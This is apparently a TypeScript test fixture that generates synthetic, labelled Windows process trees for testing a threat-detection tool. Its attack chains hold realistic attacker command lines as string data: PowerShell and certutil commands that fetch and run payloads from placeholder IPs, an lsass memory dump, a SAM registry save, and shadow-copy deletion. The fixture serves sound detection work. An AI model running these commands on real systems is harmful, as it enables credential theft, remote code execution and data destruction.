/**
 * TEST FIXTURE: small, seeded Windows process forests with labelled attack chains, for the
 * detection tests and the lineage evaluation. The project's synthetic generator
 * (server/lib/generator) is the product-grade one; this fixture exists so that detection can be
 * tested on its own and so the tests keep pinned, readable scenarios.
 */
import type { ProcessEvent } from '../../../../common/types/process_event';
import { seededRng } from '../../prng';

export interface LabelledEvent {
  event: ProcessEvent;
  malicious: boolean;
  /** Attack chains: "attack:<kind>:<host>:<n>"; routine admin chains: "admin:<host>:<n>". */
  chainId?: string;
}

export interface Proc {
  entityId: string;
  pid: number;
  name: string;
  executable: string;
  commandLine: string;
}

const SYS32 = 'C:\\Windows\\System32\\';

function exeFor(name: string): string {
  switch (name) {
    case 'winword.exe':
    case 'excel.exe':
    case 'outlook.exe':
      return `C:\\Program Files\\Microsoft Office\\root\\Office16\\${name.toUpperCase()}`;
    case 'chrome.exe':
      return 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
    case 'powershell.exe':
      return `${SYS32}WindowsPowerShell\\v1.0\\powershell.exe`;
    case 'explorer.exe':
      return 'C:\\Windows\\explorer.exe';
    default:
      return `${SYS32}${name}`;
  }
}

/** One simulated host: hands out entity ids and pids and records creation events. */
export class HostSim {
  readonly events: LabelledEvent[] = [];
  private nextPid = 400;
  private seq = 0;
  readonly rand: () => number;

  constructor(
    readonly host: string,
    seed: number,
    readonly user = 'alice',
    readonly domain = 'CORP',
  ) {
    this.rand = seededRng(seed);
  }

  pick<T>(xs: readonly T[]): T {
    return xs[Math.floor(this.rand() * xs.length)] as T;
  }

  /** A process that exists but whose creation is not in the data (System, or before the window). */
  existing(name: string, cmd = name): Proc {
    this.nextPid += 4;
    return {
      entityId: `${this.host}-pre-${name}-${this.seq++}`,
      pid: this.nextPid,
      name,
      executable: exeFor(name),
      commandLine: cmd,
    };
  }

  spawn(
    parent: Proc,
    name: string,
    cmd: string,
    t: number,
    label: { malicious?: boolean; chainId?: string; user?: string } = {},
  ): Proc {
    this.nextPid += 4;
    const p: Proc = {
      entityId: `${this.host}-${this.seq++}`,
      pid: this.nextPid,
      name,
      executable: exeFor(name),
      commandLine: cmd,
    };
    const event: ProcessEvent = {
      '@timestamp': new Date(t).toISOString(),
      host: { name: this.host },
      event: {
        category: ['process'],
        type: ['start'],
        action: 'start',
        id: `${p.entityId}-ev`,
        code: '1',
      },
      process: {
        entity_id: p.entityId,
        pid: p.pid,
        name,
        executable: p.executable,
        command_line: cmd,
        parent: {
          entity_id: parent.entityId,
          pid: parent.pid,
          name: parent.name,
          executable: parent.executable,
          command_line: parent.commandLine,
        },
      },
      user: { name: label.user ?? this.user, domain: this.domain },
      problemchild: {
        sources: [{ kind: 'file', file: 'synthetic', line: this.events.length + 1, format: 'ecs' }],
      },
    };
    this.events.push({ event, malicious: label.malicious ?? false, chainId: label.chainId });
    return p;
  }
}

export interface HostLayout {
  services: Proc;
  explorer: Proc;
  /** svchost -k netsvcs -s Schedule: the task scheduler. */
  scheduler: Proc;
  /** svchost -k DcomLaunch: parent of WMI provider hosts. */
  dcom: Proc;
  wmiprvse: Proc;
}

const SVC_GROUPS = [
  'LocalServiceNetworkRestricted',
  'netsvcs',
  'LocalService',
  'NetworkService',
  'RPCSS',
  'UnistackSvcGroup',
  'LocalSystemNetworkRestricted',
  'wsappx',
];

/** Boot chain and long-running infrastructure of a host, at time t0. */
export function bootHost(h: HostSim, t0: number): HostLayout {
  const system = h.existing('system', 'System');
  const smss = h.spawn(system, 'smss.exe', '\\SystemRoot\\System32\\smss.exe', t0, {
    user: 'SYSTEM',
  });
  const smss2 = h.spawn(
    smss,
    'smss.exe',
    '\\SystemRoot\\System32\\smss.exe 000000c4 00000084',
    t0 + 5,
    { user: 'SYSTEM' },
  );
  h.spawn(
    smss2,
    'csrss.exe',
    '%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768',
    t0 + 6,
    { user: 'SYSTEM' },
  );
  const wininit = h.spawn(smss2, 'wininit.exe', 'wininit.exe', t0 + 8, { user: 'SYSTEM' });
  const winlogon = h.spawn(smss2, 'winlogon.exe', 'winlogon.exe', t0 + 9, { user: 'SYSTEM' });
  const services = h.spawn(wininit, 'services.exe', `${SYS32}services.exe`, t0 + 12, {
    user: 'SYSTEM',
  });
  h.spawn(wininit, 'lsass.exe', `${SYS32}lsass.exe`, t0 + 13, { user: 'SYSTEM' });
  const dcom = h.spawn(services, 'svchost.exe', `${SYS32}svchost.exe -k DcomLaunch -p`, t0 + 20, {
    user: 'SYSTEM',
  });
  const scheduler = h.spawn(
    services,
    'svchost.exe',
    `${SYS32}svchost.exe -k netsvcs -p -s Schedule`,
    t0 + 21,
    { user: 'SYSTEM' },
  );
  for (let i = 0; i < 10; i++) {
    const g = SVC_GROUPS[i % SVC_GROUPS.length] as string;
    h.spawn(services, 'svchost.exe', `${SYS32}svchost.exe -k ${g} -p -s Svc${i}`, t0 + 22 + i, {
      user: 'SYSTEM',
    });
  }
  h.spawn(services, 'spoolsv.exe', `${SYS32}spoolsv.exe`, t0 + 40, { user: 'SYSTEM' });
  h.spawn(
    services,
    'msmpeng.exe',
    '"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.2008.9-0\\MsMpEng.exe"',
    t0 + 41,
    { user: 'SYSTEM' },
  );
  const wmiprvse = h.spawn(
    dcom,
    'wmiprvse.exe',
    `${SYS32}wbem\\wmiprvse.exe -secured -Embedding`,
    t0 + 50,
    { user: 'NETWORK SERVICE' },
  );
  const userinit = h.spawn(winlogon, 'userinit.exe', `${SYS32}userinit.exe`, t0 + 60);
  const explorer = h.spawn(userinit, 'explorer.exe', 'C:\\Windows\\Explorer.EXE', t0 + 61);
  return { services, explorer, scheduler, dcom, wmiprvse };
}

function guid(h: HostSim): string {
  const hex = (n: number): string =>
    Array.from({ length: n }, () => Math.floor(h.rand() * 16).toString(16)).join('');
  return `{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`;
}

function b64(h: HostSim, n: number): string {
  const chars = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  return Array.from({ length: n }, () => chars[Math.floor(h.rand() * chars.length)]).join('');
}

/** Routine activity: browsers, Office, scheduled tasks, WMI, services, a user console. */
export function benignActivity(
  h: HostSim,
  L: HostLayout,
  t0: number,
  durationMs: number,
  events: number,
): void {
  const at = (): number => t0 + 1000 + Math.floor(h.rand() * (durationMs - 2000));
  const start = h.events.length;
  while (h.events.length - start < events) {
    const r = h.rand();
    const t = at();
    if (r < 0.25) {
      const chrome = h.spawn(
        L.explorer,
        'chrome.exe',
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"',
        t,
      );
      const n = 2 + Math.floor(h.rand() * 5);
      for (let i = 0; i < n; i++) {
        h.spawn(
          chrome,
          'chrome.exe',
          `"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --field-trial-handle=${Math.floor(h.rand() * 9000)},${Math.floor(h.rand() * 9000)} --renderer-client-id=${i + 5} /prefetch:1`,
          t + 100 + i * 37,
        );
      }
    } else if (r < 0.35) {
      const app = h.pick([
        'winword.exe',
        'excel.exe',
        'outlook.exe',
        'notepad.exe',
        'teams.exe',
        'onedrive.exe',
      ]);
      const proc = h.spawn(
        L.explorer,
        app,
        `"${exeFor(app)}" /n "C:\\Users\\${h.user}\\Documents\\doc${Math.floor(h.rand() * 300)}.docx"`,
        t,
      );
      if (app === 'winword.exe' && h.rand() < 0.3)
        h.spawn(proc, 'splwow64.exe', `${SYS32}..\\splwow64.exe 12288`, t + 500);
    } else if (r < 0.55) {
      h.spawn(
        L.dcom,
        h.pick(['runtimebroker.exe', 'dllhost.exe', 'wmiprvse.exe', 'backgroundtaskhost.exe']),
        `${SYS32}dllhost.exe /Processid:${guid(h)}`,
        t,
        { user: 'SYSTEM' },
      );
    } else if (r < 0.75) {
      const task = h.pick([
        'taskhostw.exe',
        'sihclient.exe',
        'compattelrunner.exe',
        'mpcmdrun.exe',
        'usoclient.exe',
      ]);
      const p = h.spawn(L.scheduler, task, `${SYS32}${task} /scheduled ${guid(h)}`, t, {
        user: 'SYSTEM',
      });
      if (task === 'compattelrunner.exe' && h.rand() < 0.5)
        h.spawn(
          p,
          'conhost.exe',
          '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
          t + 20,
          { user: 'SYSTEM' },
        );
    } else if (r < 0.85) {
      h.spawn(
        L.services,
        h.pick(['svchost.exe', 'trustedinstaller.exe', 'msiexec.exe', 'sppsvc.exe']),
        `${SYS32}svchost.exe -k netsvcs -p -s wuauserv ${guid(h)}`,
        t,
        { user: 'SYSTEM' },
      );
    } else if (r < 0.92) {
      const cmd = h.spawn(L.explorer, 'cmd.exe', '"C:\\Windows\\system32\\cmd.exe"', t);
      h.spawn(
        cmd,
        'conhost.exe',
        '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
        t + 5,
      );
      const n = 1 + Math.floor(h.rand() * 3);
      for (let i = 0; i < n; i++) {
        const c = h.pick(['ipconfig.exe', 'ping.exe', 'tracert.exe', 'nslookup.exe']);
        h.spawn(
          cmd,
          c,
          `${c.replace('.exe', '')} ${c === 'ipconfig.exe' ? '/all' : `10.0.${Math.floor(h.rand() * 250)}.${Math.floor(h.rand() * 250)}`}`,
          t + 1000 * (i + 1),
        );
      }
    } else {
      h.spawn(
        L.wmiprvse,
        h.pick(['wmiapsrv.exe', 'scrcons.exe', 'mofcomp.exe']),
        `${SYS32}wbem\\wmiapsrv.exe`,
        t,
        { user: 'SYSTEM' },
      );
    }
  }
}

export type AttackKind =
  'office_macro' | 'mshta_lsass' | 'wmi_lateral' | 'psexec_ransom' | 'schtask_certutil';
export const ATTACK_KINDS: readonly AttackKind[] = [
  'office_macro',
  'mshta_lsass',
  'wmi_lateral',
  'psexec_ransom',
  'schtask_certutil',
];

const CONHOST = '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1';

/** Injects one labelled attack chain at time t; every process it starts is malicious. */
export function injectAttack(
  h: HostSim,
  L: HostLayout,
  kind: AttackKind,
  t: number,
  chainId: string,
): void {
  const m = { malicious: true, chainId };
  const step = (i: number): number => t + i * 2_500;
  switch (kind) {
    case 'office_macro': {
      // explorer → winword is the user opening the lure: benign on its own, not labelled.
      const word = h.spawn(
        L.explorer,
        'winword.exe',
        `"${exeFor('winword.exe')}" /n "C:\\Users\\${h.user}\\Downloads\\invoice_${Math.floor(h.rand() * 999)}.docm"`,
        t,
      );
      const cmd = h.spawn(
        word,
        'cmd.exe',
        `cmd.exe /c powershell -nop -w hidden -enc ${b64(h, 120)}`,
        step(1),
        m,
      );
      h.spawn(cmd, 'conhost.exe', CONHOST, step(1) + 10, m);
      const ps = h.spawn(
        cmd,
        'powershell.exe',
        `powershell -nop -w hidden -enc ${b64(h, 160)}`,
        step(2),
        m,
      );
      h.spawn(ps, 'whoami.exe', '"C:\\Windows\\system32\\whoami.exe" /all', step(3), m);
      h.spawn(ps, 'net.exe', '"C:\\Windows\\system32\\net.exe" user /domain', step(4), m);
      const ng = h.spawn(
        ps,
        'net.exe',
        '"C:\\Windows\\system32\\net.exe" group "domain admins" /domain',
        step(5),
        m,
      );
      h.spawn(
        ng,
        'net1.exe',
        'C:\\Windows\\system32\\net1 group "domain admins" /domain',
        step(5) + 20,
        m,
      );
      h.spawn(
        ps,
        'nltest.exe',
        '"C:\\Windows\\system32\\nltest.exe" /dclist:corp.local',
        step(6),
        m,
      );
      return;
    }
    case 'mshta_lsass': {
      const hta = h.spawn(
        L.explorer,
        'mshta.exe',
        `"C:\\Windows\\System32\\mshta.exe" http://198.51.100.${Math.floor(h.rand() * 250)}/a.hta`,
        t,
        m,
      );
      const ps = h.spawn(
        hta,
        'powershell.exe',
        `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/p.ps1')"`,
        step(1),
        m,
      );
      h.spawn(ps, 'conhost.exe', CONHOST, step(1) + 10, m);
      h.spawn(
        ps,
        'rundll32.exe',
        'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full',
        step(2),
        m,
      );
      h.spawn(ps, 'whoami.exe', 'whoami /priv', step(3), m);
      return;
    }
    case 'wmi_lateral': {
      const ps = h.spawn(
        L.wmiprvse,
        'powershell.exe',
        `powershell.exe -NoP -NonI -W Hidden -enc ${b64(h, 200)}`,
        t,
        m,
      );
      const cmd = h.spawn(ps, 'cmd.exe', 'cmd.exe /c net localgroup administrators', step(1), m);
      h.spawn(cmd, 'net.exe', 'net localgroup administrators', step(1) + 15, m);
      h.spawn(ps, 'systeminfo.exe', 'systeminfo', step(2), m);
      h.spawn(ps, 'tasklist.exe', 'tasklist /v', step(3), m);
      return;
    }
    case 'psexec_ransom': {
      const svc = h.spawn(L.services, 'psexesvc.exe', 'C:\\Windows\\PSEXESVC.exe', t, {
        ...m,
        user: 'SYSTEM',
      });
      const cmd = h.spawn(svc, 'cmd.exe', 'cmd.exe', step(1), { ...m, user: 'SYSTEM' });
      h.spawn(cmd, 'conhost.exe', CONHOST, step(1) + 10, { ...m, user: 'SYSTEM' });
      h.spawn(cmd, 'reg.exe', 'reg save hklm\\sam C:\\Users\\Public\\sam.hiv', step(2), {
        ...m,
        user: 'SYSTEM',
      });
      h.spawn(cmd, 'vssadmin.exe', 'vssadmin delete shadows /all /quiet', step(3), {
        ...m,
        user: 'SYSTEM',
      });
      h.spawn(cmd, 'wmic.exe', 'wmic shadowcopy delete', step(4), { ...m, user: 'SYSTEM' });
      return;
    }
    case 'schtask_certutil': {
      const cmd = h.spawn(
        L.scheduler,
        'cmd.exe',
        `cmd.exe /c certutil -urlcache -split -f http://203.0.113.9/p.exe C:\\Users\\${h.user}\\AppData\\Local\\Temp\\p${Math.floor(h.rand() * 99)}.exe`,
        t,
        m,
      );
      const cu = h.spawn(
        cmd,
        'certutil.exe',
        `certutil -urlcache -split -f http://203.0.113.9/p.exe C:\\Users\\${h.user}\\AppData\\Local\\Temp\\p.exe`,
        step(1),
        m,
      );
      void cu;
      const payload = h.spawn(
        cmd,
        'p.exe',
        `C:\\Users\\${h.user}\\AppData\\Local\\Temp\\p.exe`,
        step(2),
        m,
      );
      h.spawn(payload, 'whoami.exe', 'whoami', step(3), m);
      h.spawn(payload, 'ipconfig.exe', 'ipconfig /all', step(4), m);
      return;
    }
  }
}

/**
 * A routine admin job that looks like discovery to any model (bypass, whoami, net user) and runs
 * everywhere, every few hours: the case prevalence exists for.
 */
export function injectAdminChain(h: HostSim, L: HostLayout, t: number, chainId: string): void {
  const c = { chainId, user: 'SYSTEM' };
  const cmd = h.spawn(
    L.scheduler,
    'cmd.exe',
    'C:\\Windows\\system32\\cmd.exe /c C:\\scripts\\inventory.cmd',
    t,
    c,
  );
  const ps = h.spawn(
    cmd,
    'powershell.exe',
    'powershell.exe -ExecutionPolicy Bypass -NoProfile -File C:\\scripts\\inventory.ps1',
    t + 300,
    c,
  );
  h.spawn(ps, 'whoami.exe', 'whoami.exe /all', t + 900, c);
  h.spawn(ps, 'net.exe', 'net.exe user', t + 1200, c);
  h.spawn(ps, 'net.exe', 'net.exe localgroup administrators', t + 1500, c);
  h.spawn(ps, 'systeminfo.exe', 'systeminfo.exe', t + 1800, c);
}

export interface EnvironmentSpec {
  seed: number;
  hosts: number;
  start?: string;
  durationMs?: number;
  benignEventsPerHost?: number;
  /** Attacks to inject: host index, kind, offset from start (ms). */
  attacks?: Array<{ host: number; kind: AttackKind; offsetMs: number }>;
  /** Routine admin job runs per host (spread over the duration); 0 = none. */
  adminRunsPerHost?: number;
}

export function hostName(i: number): string {
  return `ws${String(i).padStart(3, '0')}.corp.local`;
}

/** A whole labelled environment: every host booted, busy, some attacked. */
export function syntheticEnvironment(spec: EnvironmentSpec): LabelledEvent[] {
  const t0 = Date.parse(spec.start ?? '2024-03-04T08:00:00.000Z');
  const duration = spec.durationMs ?? 3_600_000;
  const out: LabelledEvent[] = [];
  for (let i = 0; i < spec.hosts; i++) {
    const h = new HostSim(hostName(i), spec.seed * 1000 + i);
    const L = bootHost(h, t0);
    benignActivity(h, L, t0, duration, spec.benignEventsPerHost ?? 300);
    const runs = spec.adminRunsPerHost ?? 0;
    for (let r = 0; r < runs; r++)
      injectAdminChain(
        h,
        L,
        t0 + Math.floor(((r + 0.5) * duration) / runs),
        `admin:${h.host}:${r}`,
      );
    (spec.attacks ?? [])
      .filter((a) => a.host === i)
      .forEach((a, n) =>
        injectAttack(h, L, a.kind, t0 + a.offsetMs, `attack:${a.kind}:${h.host}:${n}`),
      );
    out.push(...h.events);
  }
  return out;
}
